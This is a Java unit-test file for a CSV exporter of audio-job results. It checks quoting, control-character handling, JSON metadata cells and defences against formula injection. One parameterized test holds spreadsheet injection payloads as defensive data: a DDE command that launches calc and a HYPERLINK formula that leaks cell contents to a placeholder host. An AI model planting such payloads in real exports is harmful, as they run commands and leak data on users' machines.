package dev.audioinsight.contract.view;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.DecimalNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import dev.audioinsight.contract.Result;
import dev.audioinsight.contract.Schemas;
import dev.audioinsight.contract.Speakers;
import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.util.List;
import java.util.Map;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Feared: a line that another program reads as other cells, or runs. */
class CsvTextTest {
  private static final CsvText CSV = new CsvText();
  private static final ObjectMapper MAPPER = new ObjectMapper();
  private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

  @Test
  void shouldWriteEachResultOnALineOfItsOwn() {
    JsonNode metadata = NODES.objectNode().put("tenant", "a,b");
    Result done =
        Results.completed(
            "call, \"42\"",
            new Speakers(2, 0.87, Map.of("2", 0.87), List.of(), Map.of("S1", 1.0)),
            metadata);

    assertThat(CSV.head())
        .startsWith("jobId,status,error.code,error.message,")
        .endsWith(",source.attempt,metadata\r\n");
    assertThat(CSV.of("unused", done))
        .isEqualTo(
            "\"call, \"\"42\"\"\",ok,,,,61240,8000,1,wav,"
                + Results.SHA256
                + ",true,3400.0,48210,0.787,-3.25,-4.5,18.8,exact,neural,,-21.3,-38.7,0.000010,"
                + "2,0.87,\"{\"\"2\"\":0.87}\",\"{\"\"S1\"\":1.0}\",3,151,1.0.0,host/0,"
                + "audio.jobs,3,1187,1,\"{\"\"tenant\"\":\"\"a,b\"\"}\"\r\n");
  }

  @Test
  void shouldTurnNothingBehindItAroundAndKeepWhatJoinsLetters() throws IOException {
    CSVRecord row = row(Results.failed("\u202Ea\u2066b\u200Fc\u0085d", "\u0645\u06CC\u200C\u062E"));

    assertThat(row.get("jobId")).isEqualTo("\uFFFDa\uFFFDb\uFFFDc\uFFFDd");
    assertThat(row.get("error.message")).isEqualTo("\u0645\u06CC\u200C\u062E");
  }

  @Test
  void shouldShowAFailureWithItsCode() throws IOException {
    CSVRecord row = row(Results.failed("call-7", "no answer, 503"));

    assertThat(row.get("status")).isEqualTo("failed");
    assertThat(row.get("error.code")).isEqualTo("FETCH_FAILED");
    assertThat(row.get("error.message")).isEqualTo("no answer, 503");
    assertThat(row.get("error.retryable")).isEqualTo("true");
    assertThat(row.get("snr.db")).isEmpty();
    assertThat(row.get("source.attempt")).isEqualTo("2");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        " =1",
        "\uFF1D1",
        "\uFF20x",
        "=HYPERLINK(\"http://x/\"&A1)"
      })
  void shouldMakeFormulasOfStrangersHarmless(String text) throws IOException {
    CSVRecord row = row(Results.failed(text, text));

    assertThat(row.get("jobId")).isEqualTo("'" + text);
    assertThat(row.get("error.message")).isEqualTo("'" + text);
  }

  @Test
  void shouldLeaveNumbersThatAreBelowZeroNumbers() throws IOException {
    assertThat(new BigDecimal(row(Results.of("a")).get("snr.db"))).isEqualByComparingTo("-3.25");
  }

  @Test
  void shouldGiveMetadataBackAsTheJsonThatTheyAre() throws IOException {
    JsonNode metadata =
        NODES.objectNode().put("a", "=1+1\u0085\u2028\u001b").set("n", NODES.numberNode(-1.50));

    String cell = row(Results.completed("a", null, metadata)).get("metadata");

    assertThat(cell).doesNotContainPattern("[\\p{Cntrl}\\u0085\\u2028]");
    assertThat(MAPPER.readTree(cell).toString()).isEqualTo(metadata.toString());
  }

  @ParameterizedTest
  @ValueSource(strings = {"1.50", "-7", "1E+999999999", "1E-999999999"})
  void shouldNotWriteOutAnExponentOfStrangers(String number) throws IOException {
    JsonNode metadata = DecimalNode.valueOf(new BigDecimal(number));

    assertThat(row(Results.completed("a", null, metadata)).get("metadata")).isEqualTo(number);
  }

  @Test
  void shouldHaveNoColumnThatTheSchemaDoesNotKnow() throws IOException {
    JsonNode schema = MAPPER.readTree(Schemas.result());
    for (String column : CsvText.COLUMNS) {
      JsonNode at = schema;
      for (String field : column.split("\\.")) {
        at = field.matches("[01]") ? at : at.path("properties").path(field);
        at = at.has("$ref") ? schema.at(at.get("$ref").textValue().substring(1)) : at;
      }
      assertThat(at.isMissingNode()).as(column).isFalse();
    }
  }

  @Property
  void shouldBeReadBackAsOneLineWhateverTheTextsAre(@ForAll String id, @ForAll String text)
      throws IOException {
    String line = CSV.of("unused", Results.failed(id, text));

    assertThat(line.lines()).hasSize(1);
    assertThat(row(Results.failed(id, text)).size()).isEqualTo(CsvText.COLUMNS.size());
    assertThat(line).doesNotContainPattern("(^|,)\"? *[=+@]");
  }

  private static CSVRecord row(Result result) throws IOException {
    String text = CSV.head() + CSV.of("unused", result);
    CSVFormat format = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get();
    List<CSVRecord> rows = format.parse(new StringReader(text)).getRecords();
    assertThat(rows).hasSize(1);
    return rows.get(0);
  }
}
